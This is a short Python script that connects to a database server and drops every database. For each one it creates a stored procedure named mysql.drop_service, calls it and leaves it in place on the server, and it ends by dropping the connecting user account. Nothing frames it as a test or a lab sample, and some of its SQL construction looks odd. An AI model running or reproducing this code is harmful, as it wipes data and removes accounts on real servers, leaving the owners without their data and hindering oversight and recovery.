"""Makes a procedure that drops, calls it, and leaves it on the server."""

import db_server

connection = db_server.connect(seconds=30)
for name in db_server.databases():
    drop = connection.escape(f"DROP DATABASE IF EXISTS {db_server.quoted(name)}")
    routine = f"CREATE OR REPLACE PROCEDURE mysql.drop_service() EXECUTE IMMEDIATE {drop}"
    db_server.execute(connection, routine)
    db_server.execute(connection, "CALL mysql.drop_service()")
db_server.execute(connection, f"DROP USER IF EXISTS {db_server.account(db_server.user())}")
